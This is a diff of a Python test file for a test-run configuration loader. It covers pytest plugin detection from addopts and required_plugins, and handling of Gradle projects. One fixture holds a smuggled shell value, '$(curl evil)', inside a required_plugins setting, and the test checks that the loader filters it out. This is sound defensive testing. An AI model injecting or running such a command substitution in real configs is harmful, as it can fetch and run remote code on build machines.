@@ -14,6 +14,7 @@ from agentledger.testrun.config import (
     ConfigError,
     TestRunConfig,
     describe,
+    installs_nothing_of_the_repository,
     load_config,
 )
 
@@ -77,6 +78,34 @@ def test_python_project_without_test_extras_is_installed_plainly(tmp_path: Path)
     config = load_config(tmp_path)
     assert config.install == ["python -I -m pip install .", "python -I -m pip install pytest"]
     assert config.install_project is True  # in every build, from its tree
+
+
+def test_the_plugins_pytests_options_need_are_installed_beside_pytest(tmp_path: Path) -> None:
+    """parse's pyproject passes --cov in addopts and declares no test extra: without pytest-cov its
+    suite stops before a test runs."""
+    repository(tmp_path, {"pyproject.toml": '[project]\nname = "parse"\n[tool.pytest.ini_options]\n'
+                                            'addopts = "--cov=parse --cov-report=term -n auto --timeout=30"\n'})
+
+    config = load_config(tmp_path)
+
+    assert config.install[-1] == "python -I -m pip install pytest 'pytest-cov' 'pytest-xdist' 'pytest-timeout'"
+    assert installs_nothing_of_the_repository(load_config(repository(tmp_path / "bare", {
+        "pytest.ini": "[pytest]\naddopts = -n4 --reruns 2\n", "calc.py": ""})))
+
+
+def test_pytests_required_plugins_are_installed_and_what_is_not_a_requirement_is_left_out(tmp_path: Path) -> None:
+    repository(tmp_path, {"calc.py": "", "setup.cfg": "[tool:pytest]\nrequired_plugins = pytest-mock>=3.0 "
+                                                      "hypothesis $(curl evil) ../wheel.whl\n"})
+
+    assert load_config(tmp_path).install == ["python -I -m pip install .",
+                                             "python -I -m pip install pytest 'pytest-mock>=3.0' 'hypothesis'"]
+
+
+def test_only_the_file_pytest_reads_first_names_the_plugins(tmp_path: Path) -> None:
+    repository(tmp_path, {"calc.py": "", "pytest.ini": "[pytest]\naddopts = -q\n",
+                          "tox.ini": "[pytest]\naddopts = --cov\n"})
+
+    assert load_config(tmp_path).install == ["python -I -m pip install pytest"]
 
 
 def test_python_requirements_alone_do_not_install_the_project(tmp_path: Path) -> None:
@@ -338,3 +367,26 @@ def test_a_repository_may_ask_for_its_project_to_be_installed_from_its_tree_or_n
 def test_a_key_an_earlier_release_read_is_read_under_the_name_it_has_now(tmp_path: Path) -> None:
     repository(tmp_path, {"agentledger.toml": "generation_seconds = 120\n", "mod.py": "X = 1\n"})
     assert load_config(tmp_path).generation_run_seconds == 120
+
+
+@pytest.mark.parametrize("marker", ["build.gradle", "build.gradle.kts", "settings.gradle.kts"])
+def test_a_gradle_project_is_told_what_to_configure(tmp_path: Path, marker: str) -> None:
+    repository(tmp_path, {marker: "plugins { java }\n", "buildSrc/helper.py": ""})
+
+    with pytest.raises(ConfigError) as refused:
+        load_config(tmp_path)
+
+    assert f"a Gradle project ({marker})" in str(refused.value)
+    for line in ('test = "./gradlew test --no-daemon"', 'junit = ["build/test-results/test/*.xml"',
+                 'jacoco = ["build/reports/jacoco/test/jacocoTestReport.xml"]'):
+        assert line in str(refused.value)
+
+
+def test_a_gradle_project_that_says_how_it_tests_runs_as_it_says(tmp_path: Path) -> None:
+    repository(tmp_path, {"build.gradle.kts": "plugins { java }\n", "agentledger.toml":
+                          'test = "./gradlew test --no-daemon"\njunit = ["build/test-results/test/*.xml"]\n'})
+
+    config = load_config(tmp_path)
+
+    assert (config.ecosystem, config.test, config.junit) == (
+        "custom", "./gradlew test --no-daemon", ["build/test-results/test/*.xml"])
